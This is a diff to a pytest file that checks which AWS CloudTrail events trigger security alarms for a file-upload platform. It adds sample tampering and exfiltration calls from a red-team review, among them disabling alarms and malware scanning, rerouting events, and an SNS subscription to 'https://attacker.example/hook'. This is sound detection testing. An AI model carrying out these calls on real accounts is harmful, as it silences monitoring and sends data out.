@@ -116,7 +116,23 @@ TERRAFORM_RESOURCES_ARN = (
     f"arn:aws:iam::{ACCOUNT}:policy/{PROJECT}-{ENVIRONMENT}-github-terraform-resources"
 )
 SECRET = {"secretId": f"{PROJECT}-{ENVIRONMENT}-smoke-user"}
-OTHER_TOPIC = f"arn:aws:sns:us-east-1:{ACCOUNT}:{PROJECT}-{ENVIRONMENT}-alarms"
+# The environment's own alarm topic (modules/observability) and alarms.
+ALARM_TOPIC = f"arn:aws:sns:us-east-1:{ACCOUNT}:{PROJECT}-{ENVIRONMENT}-alarms"
+ALARM = f"{PROJECT}-{ENVIRONMENT}-dlq-not-empty"
+FUNCTION_ALARM = f"{PROJECT}-{ENVIRONMENT}-upload-api-errors"
+OTHER_TOPIC = f"arn:aws:sns:us-east-1:{ACCOUNT}:{PROJECT}-prod-alarms"
+# Somewhere to send events: a rule, queue or topic of CI's making (H1 of the
+# red-team review) and the platform's own.
+EXFIL_RULE = f"{PROJECT}-{ENVIRONMENT}-exfil"
+OBJECT_CREATED_RULE = f"{PROJECT}-{ENVIRONMENT}-object-created"
+FILE_EVENTS_BUS = f"{PROJECT}-{ENVIRONMENT}-file-events"
+EXFIL_TOPIC = f"arn:aws:sns:us-east-1:{ACCOUNT}:{PROJECT}-{ENVIRONMENT}-exfil"
+EXFIL_QUEUE = f"https://sqs.us-east-1.amazonaws.com/{ACCOUNT}/{PROJECT}-{ENVIRONMENT}-exfil"
+DLQ = f"https://sqs.us-east-1.amazonaws.com/{ACCOUNT}/{PROJECT}-{ENVIRONMENT}-files-stream-dlq"
+PLAN = {"malwareProtectionPlanId": "b4c7f464ab3a4EXAMPLE"}
+PIPE = {"name": f"{PROJECT}-{ENVIRONMENT}-files-stream"}
+STATE_MACHINES = f"arn:aws:states:us-east-1:{ACCOUNT}:stateMachine"
+STATE_MACHINE = {"stateMachineArn": f"{STATE_MACHINES}:{PROJECT}-{ENVIRONMENT}-processing"}
 S3_CALLS = (
     "PutBucketPolicy", "DeleteBucketPolicy", "PutBucketLogging", "PutBucketVersioning",
     "PutBucketLifecycle", "PutBucketLifecycleConfiguration", "DeleteBucketLifecycle",
@@ -132,11 +148,21 @@ ALARMED: list[tuple[str, str, str, dict[str, Any]]] = [
     *(("trail-tampering", "aws.logs", name, {"logGroupName": "/aws/lambda/x"})
       for name in ("DeleteLogGroup", "PutRetentionPolicy", "DeleteRetentionPolicy")),
     ("trail-tampering", "aws.sns", "DeleteTopic", TOPIC),
-    ("trail-tampering", "aws.sns", "SetTopicAttributes", {**TOPIC, "attributeName": "Policy"}),
     ("trail-tampering", "aws.sns", "AddPermission", TOPIC),
     ("trail-tampering", "aws.sns", "RemovePermission", TOPIC),
     ("trail-tampering", "aws.sns", "Unsubscribe", SUBSCRIPTION),
     ("trail-tampering", "aws.sns", "SetSubscriptionAttributes", SUBSCRIPTION),
+    # The environment's alarms and their topic (finding L4 of the red-team review).
+    ("trail-tampering", "aws.sns", "DeleteTopic", {"topicArn": ALARM_TOPIC}),
+    ("trail-tampering", "aws.sns", "RemovePermission", {"topicArn": ALARM_TOPIC, "label": "x"}),
+    ("trail-tampering", "aws.sns", "Unsubscribe", {"subscriptionArn": f"{ALARM_TOPIC}:1f2e3d4c"}),
+    ("trail-tampering", "aws.sns", "SetSubscriptionAttributes",
+     {"subscriptionArn": f"{ALARM_TOPIC}:1f2e3d4c", "attributeName": "FilterPolicy"}),
+    ("trail-tampering", "aws.cloudwatch", "DeleteAlarms", {"alarmNames": ["other", ALARM]}),
+    ("trail-tampering", "aws.cloudwatch", "DisableAlarmActions", {"alarmNames": [FUNCTION_ALARM]}),
+    ("trail-tampering", "aws.cloudwatch", "PutMetricAlarm",
+     {"alarmName": ALARM, "alarmActions": [], "threshold": 1000000.0}),
+    ("trail-tampering", "aws.cloudwatch", "PutMetricAlarm", {"alarmName": f"{PREFIX}-x"}),
     *(("data-protection", "aws.s3", name, UPLOADS) for name in S3_CALLS),
     ("data-protection", "aws.kms", "PutKeyPolicy", {**KEY, "policyName": "default"}),
     ("data-protection", "aws.kms", "ScheduleKeyDeletion", {**KEY, "pendingWindowInDays": 7}),
@@ -145,6 +171,34 @@ ALARMED: list[tuple[str, str, str, dict[str, Any]]] = [
     *(("data-protection", "aws.dynamodb", name, TABLE)
       for name in ("DeleteTable", "UpdateTable", "UpdateContinuousBackups", "UpdateTimeToLive",
                    "ExportTableToPointInTime", "DeleteBackup")),
+    # Malware scanning decides what is downloadable (finding L4 of the red-team review).
+    ("data-protection", "aws.guardduty", "UpdateMalwareProtectionPlan",
+     {**PLAN, "actions": {"tagging": {"status": "DISABLED"}}}),
+    ("data-protection", "aws.guardduty", "DeleteMalwareProtectionPlan", PLAN),
+    # Where events can go: any rule and target, on any bus (H1 of the red-team review).
+    ("data-protection", "aws.events", "PutRule",
+     {"name": EXFIL_RULE, "eventPattern": '{"detail-type":["Object Created"]}'}),
+    ("data-protection", "aws.events", "PutTargets",
+     {"rule": EXFIL_RULE, "targets": [{"id": "1", "arn": EXFIL_TOPIC}]}),
+    ("data-protection", "aws.events", "PutTargets",
+     {"rule": "exfil", "eventBusName": FILE_EVENTS_BUS, "targets": [{"arn": EXFIL_TOPIC}]}),
+    ("data-protection", "aws.events", "PutRule", {"name": OBJECT_CREATED_RULE}),
+    ("data-protection", "aws.events", "DisableRule", {"name": OBJECT_CREATED_RULE}),
+    ("data-protection", "aws.events", "DeleteRule", {"name": OBJECT_CREATED_RULE}),
+    ("data-protection", "aws.events", "RemoveTargets", {"rule": OBJECT_CREATED_RULE, "ids": ["1"]}),
+    ("data-protection", "aws.events", "UpdateEventBus",
+     {"name": FILE_EVENTS_BUS, "deadLetterConfig": {"arn": "arn:x"}}),
+    ("data-protection", "aws.events", "PutPermission", {"eventBusName": FILE_EVENTS_BUS}),
+    ("data-protection", "aws.sns", "CreateTopic", {"name": f"{PROJECT}-{ENVIRONMENT}-exfil"}),
+    ("data-protection", "aws.sns", "Subscribe",
+     {"topicArn": EXFIL_TOPIC, "protocol": "https", "endpoint": "https://attacker.example/hook"}),
+    ("data-protection", "aws.sns", "SetTopicAttributes",
+     {"topicArn": EXFIL_TOPIC, "attributeName": "Policy"}),
+    ("data-protection", "aws.sqs", "SetQueueAttributes",
+     {"queueUrl": EXFIL_QUEUE, "attributes": {"Policy": "{}"}}),
+    ("data-protection", "aws.sqs", "SetQueueAttributes", {"queueUrl": DLQ, "attributes": {}}),
+    ("data-protection", "aws.sqs", "AddPermission",
+     {"queueUrl": DLQ, "aWSAccountIds": ["222222222222"], "actions": ["ReceiveMessage"]}),
     ("iam-boundaries", "aws.iam", "CreatePolicyVersion", {**BOUNDARY, "setAsDefault": True}),
     ("iam-boundaries", "aws.iam", "SetDefaultPolicyVersion", {**BOUNDARY, "versionId": "v1"}),
     ("iam-boundaries", "aws.iam", "DeletePolicy", BOUNDARY),
@@ -177,6 +231,19 @@ ALARMED: list[tuple[str, str, str, dict[str, Any]]] = [
     ("workload-trust", "aws.cognito-idp", "UpdateIdentityProvider", {**POOL, "providerName": "X"}),
     ("workload-trust", "aws.states", "UpdateStateMachine", {"stateMachineArn": "arn:x"}),
     ("workload-trust", "aws.pipes", "UpdatePipe", {"name": f"{PROJECT}-{ENVIRONMENT}-files"}),
+    # Availability of scanning and processing (finding L4 of the red-team review).
+    ("workload-trust", "aws.states", "DeleteStateMachine", STATE_MACHINE),
+    ("workload-trust", "aws.pipes", "StopPipe", PIPE),
+    ("workload-trust", "aws.pipes", "DeletePipe", PIPE),
+]  # fmt: skip
+
+# Calls that raise two alarms: silencing the alarms' topics is also a change of
+# where messages go.
+ALARMED_TWICE: list[tuple[set[str], str, str, dict[str, Any]]] = [
+    ({"trail-tampering", "data-protection"}, "aws.sns", "SetTopicAttributes",
+     {**TOPIC, "attributeName": "Policy"}),
+    ({"trail-tampering", "data-protection"}, "aws.sns", "SetTopicAttributes",
+     {"topicArn": ALARM_TOPIC, "attributeName": "Policy"}),
 ]  # fmt: skip
 
 # Changes to the alarm rules themselves are reported by two rules, so that
@@ -201,10 +268,20 @@ QUIET: list[tuple[str, str, dict[str, Any]]] = [
     ("aws.secretsmanager", "GetSecretValue", SECRET),
     ("aws.ssm", "PutParameter", {"name": f"/{PROJECT}/prod/cognito-issuer-url"}),
     ("aws.ssm", "GetParameter", {"name": ISSUER_PARAMETER}),
-    ("aws.events", "DisableRule", {"name": f"{PROJECT}-{ENVIRONMENT}-object-created"}),
-    ("aws.events", "PutTargets", {"rule": f"{PROJECT}-{ENVIRONMENT}-object-created"}),
+    ("aws.events", "DescribeRule", {"name": OBJECT_CREATED_RULE}),
+    ("aws.events", "EnableRule", {"name": OBJECT_CREATED_RULE}),
+    ("aws.events", "PutEvents", {"entries": [{"source": "secure-upload.files"}]}),
     ("aws.sns", "DeleteTopic", {"topicArn": OTHER_TOPIC}),
     ("aws.sns", "Unsubscribe", {"subscriptionArn": f"{OTHER_TOPIC}:1"}),
+    ("aws.sns", "Publish", {"topicArn": ALARM_TOPIC}),
+    ("aws.sqs", "CreateQueue", {"queueName": "x"}),
+    ("aws.sqs", "SendMessage", {"queueUrl": DLQ}),
+    ("aws.cloudwatch", "PutMetricAlarm", {"alarmName": f"{PROJECT}-prod-dlq-not-empty"}),
+    ("aws.cloudwatch", "DeleteAlarms", {"alarmNames": ["someone-elses-alarm"]}),
+    ("aws.cloudwatch", "DescribeAlarms", {"alarmNames": [ALARM]}),
+    ("aws.guardduty", "GetMalwareProtectionPlan", PLAN),
+    ("aws.pipes", "StartPipe", PIPE),
+    ("aws.pipes", "DescribePipe", PIPE),
     ("aws.states", "StartExecution", {}),
     ("aws.cognito-idp", "AdminGetUser", POOL),
     ("aws.logs", "CreateLogGroup", {"logGroupName": "/aws/lambda/x"}),
@@ -305,6 +382,17 @@ def test_a_change_to_any_alarm_rule_is_reported_by_two_rules(
     assert matching_rules(_api_call("aws.events", event_name, parameters)) == WATCHED_BY_TWO
 
 
+@pytest.mark.parametrize(
+    ("rules", "source", "event_name", "parameters"),
+    ALARMED_TWICE,
+    ids=[f"{source}:{name}:{next(iter(req.values()))}" for _, source, name, req in ALARMED_TWICE],
+)
+def test_a_change_to_an_alarm_topic_is_reported_by_two_rules(
+    rules: set[str], source: str, event_name: str, parameters: dict[str, Any]
+) -> None:
+    assert matching_rules(_api_call(source, event_name, parameters)) == rules
+
+
 def test_a_refused_attempt_raises_the_alarm_too() -> None:
     event = _api_call("aws.cloudtrail", "StopLogging", TRAIL, error_code="AccessDenied")
     assert matching_rules(event) == {"trail-tampering"}
@@ -319,7 +407,11 @@ def test_every_call_a_pattern_names_has_a_sample() -> None:
             return set().union(*(names(v) for v in node))
         return set()
 
-    sampled = {name for _, _, name, _ in ALARMED} | {name for name, _ in ALARM_RULE_CHANGES}
+    sampled = (
+        {name for _, _, name, _ in ALARMED}
+        | {name for _, _, name, _ in ALARMED_TWICE}
+        | {name for name, _ in ALARM_RULE_CHANGES}
+    )
     patterns = set().union(*(names(a["event_pattern"]) for a in ALARMS.values()))
     assert patterns == sampled
 
